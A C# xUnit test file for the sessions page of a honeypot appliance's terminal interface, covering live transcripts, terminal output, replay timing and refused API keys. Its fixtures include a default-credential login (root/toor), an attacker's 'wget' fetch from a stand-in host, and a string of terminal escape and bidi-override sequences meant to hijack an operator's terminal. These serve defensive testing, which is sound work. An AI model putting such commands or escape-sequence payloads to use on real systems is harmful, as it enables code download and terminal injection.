using System.Collections.Concurrent;
using System.Text;
using System.Text.Json;
using Blackwall.Sessions;
using Blackwall.Tests.Tui.Fake;
using Microsoft.AspNetCore.Http;
using Terminal.Gui.Input;
using Xunit;

namespace Blackwall.Tests.Tui;

/// <summary>The page of the tarpit's sessions: list, transcript, terminal, replay.</summary>
public sealed class SessionsPageTests
{
    private const string Id = "0123456789ab";
    private const string Hostile = "a\u001b[2J\u001b]0;evil\a\u202eb";

    private readonly ConcurrentQueue<SessionEvent> _events = new();
    private readonly StringBuilder _cast = new("{\"version\":2,\"width\":80,\"height\":24}\n");
    private readonly ConcurrentQueue<string> _ranges = new();
    private SessionBody _body = new(Id, "ssh", "203.0.113.7", 4711, "192.0.2.22", 22, FakeAppliance.Noon, null, "SSH-2.0-libssh", null, "root", 3, 1, [], 4, null, null);

    [Fact]
    public async Task A_session_is_opened_and_its_transcript_grows_while_it_goes_on()
    {
        await using FakeAppliance fake = await StartAsync();
        _events.Enqueue(new SessionEvent(FakeAppliance.Noon, "login", User: "root", Secret: "toor", Success: true));
        using ConsoleOnScreen console = new(fake.Api, width: 120);
        console.Press(Key.D6);
        await console.Shows("203.0.113.7");
        Assert.Contains("SSH-2.0-libssh", console.Screen, StringComparison.Ordinal);
        Assert.Contains("live", console.Screen, StringComparison.Ordinal);
        console.Press(Key.Enter);
        await console.Shows("root / toor, let in");
        _events.Enqueue(new SessionEvent(FakeAppliance.Noon, "command", Text: "wget http://198.51.100.1/x"));
        console.Time.Advance(TimeSpan.FromSeconds(1));
        await console.Shows("wget http://198.51.100.1/x");
        Assert.Contains($"GET /api/v1/sessions/{Id}/events?limit=1000&cursor=1", fake.Asked);
        console.Type("b");
        await console.Shows("STARTED");
    }

    [Fact]
    public async Task The_terminal_is_shown_as_it_is_and_grows_by_what_came()
    {
        await using FakeAppliance fake = await StartAsync();
        Output(1, "root@web:~# ls");
        Output(2, "\r\nfile-one\r\n");
        using ConsoleOnScreen console = new(fake.Api);
        await OpenTerminalAsync(console, "file-one");
        Output(3, "file-two\r\n");
        console.Time.Advance(TimeSpan.FromSeconds(1));
        string screen = await console.Shows("file-two");
        Assert.Contains("root@web:~# ls", screen, StringComparison.Ordinal);
        Assert.Contains(_ranges, range => range.StartsWith("bytes=", StringComparison.Ordinal) && range.EndsWith('-'));
    }

    [Fact]
    public async Task A_replay_goes_by_the_recordings_own_time_pauses_and_goes_faster()
    {
        await using FakeAppliance fake = await StartAsync();
        _body = _body with { Ended = FakeAppliance.Noon.AddMinutes(1) };
        _events.Enqueue(new SessionEvent(FakeAppliance.Noon, "close"));
        Output(0, "first\r\n");
        Output(1, "second\r\n");
        Output(31, "third\r\n");
        using ConsoleOnScreen console = new(fake.Api);
        await OpenTerminalAsync(console, "third");
        console.Type("p");
        string screen = await console.Shows("replay 0:00 of 0:31, 1x");
        Assert.Contains("first", screen, StringComparison.Ordinal);
        Assert.DoesNotContain("second", screen, StringComparison.Ordinal);
        console.Time.Advance(TimeSpan.FromSeconds(1));
        await console.Shows("second");
        console.Press(Key.Space);
        await console.Shows("PAUSED");
        console.Time.Advance(TimeSpan.FromMinutes(1));
        Assert.DoesNotContain("third", console.Screen, StringComparison.Ordinal);
        console.Press(Key.Space);
        console.Type("f");
        await console.Shows("2x");

        // Half a minute of silence is shown as two seconds.
        console.Time.Advance(TimeSpan.FromSeconds(2));
        await console.Shows("third");
        await console.Shows("at its end");
    }

    [Fact]
    public async Task Nothing_that_an_attacker_wrote_controls_the_operators_terminal()
    {
        await using FakeAppliance fake = await StartAsync();
        _body = _body with { Client = Hostile, User = Hostile };
        _events.Enqueue(new SessionEvent(FakeAppliance.Noon, "command", Text: Hostile));
        Output(1, "\u001b]0;" + Hostile + "\u0007\u009b2Jshown\u202e\u0000\u007f\u001b[31m\u001b[6n\r\n");
        using ConsoleOnScreen console = new(fake.Api, width: 120);
        console.Press(Key.D6);
        await console.Shows("a?[2J");
        AssertPlain(console);
        console.Press(Key.Enter);
        await console.Shows("command");
        AssertPlain(console);
        console.Type("t");
        await console.Shows("shown");
        AssertPlain(console);
    }

    [Fact]
    public async Task An_appliance_that_refuses_the_sessions_is_told_with_its_reason()
    {
        await using FakeAppliance fake = await FakeAppliance.StartAsync();
        fake.Instead = async context =>
        {
            if (!context.Request.Path.StartsWithSegments("/api/v1/sessions", StringComparison.Ordinal))
            {
                return false;
            }

            await FakeAppliance.Refuse(context, 403, "This key has not the scope sessions:read.");
            return true;
        };
        using ConsoleOnScreen console = new(fake.Api, width: 120);
        console.Press(Key.D6);
        await console.Shows("sessions:read");
    }

    private static void AssertPlain(ConsoleOnScreen console) => Assert.DoesNotContain(
        console.Screen.EnumerateRunes(),
        rune => rune.Value is not '\n' && (Rune.IsControl(rune) || Rune.GetUnicodeCategory(rune) == System.Globalization.UnicodeCategory.Format));

    private static async Task OpenTerminalAsync(ConsoleOnScreen console, string last)
    {
        console.Press(Key.D6);
        await console.Shows("203.0.113.7");
        console.Press(Key.Enter);
        await console.Shows(Id);
        console.Type("t");
        await console.Shows(last);
    }

    private async Task<FakeAppliance> StartAsync()
    {
        FakeAppliance fake = await FakeAppliance.StartAsync();
        fake.Instead = AnswerAsync;
        return fake;
    }

    private void Output(int second, string text)
    {
        lock (_cast)
        {
            _cast.Append(System.Globalization.CultureInfo.InvariantCulture, $"[{second}.0,\"o\",{JsonSerializer.Serialize(text)}]\n");
        }
    }

    private async Task<bool> AnswerAsync(HttpContext context)
    {
        string path = context.Request.Path.Value!.Replace("/api/v1/", "", StringComparison.Ordinal);
        switch (path.Split('/'))
        {
            case ["sessions"]:
                await FakeAppliance.Write(context, new SessionList([_body], null), SessionJson.Default.SessionList);
                return true;
            case ["sessions", Id, "events"]:
                int seen = int.TryParse(context.Request.Query["cursor"], System.Globalization.CultureInfo.InvariantCulture, out int cursor) ? cursor : 0;
                await FakeAppliance.Write(context, new SessionEventList([.. _events.Skip(seen)], null), SessionJson.Default.SessionEventList);
                return true;
            case ["sessions", Id, "terminal"]:
                await SendCastAsync(context);
                return true;
            default:
                return false;
        }
    }

    // As the appliance: whole, or from a byte on, or nothing beyond the end.
    private async Task SendCastAsync(HttpContext context)
    {
        byte[] all;
        lock (_cast)
        {
            all = Encoding.UTF8.GetBytes(_cast.ToString());
        }

        await Results.Stream(new MemoryStream(all), "application/x-asciicast", enableRangeProcessing: true).ExecuteAsync(context);
        if (context.Request.Headers.Range.ToString() is { Length: > 0 } range)
        {
            _ranges.Enqueue(range);
        }
    }
}
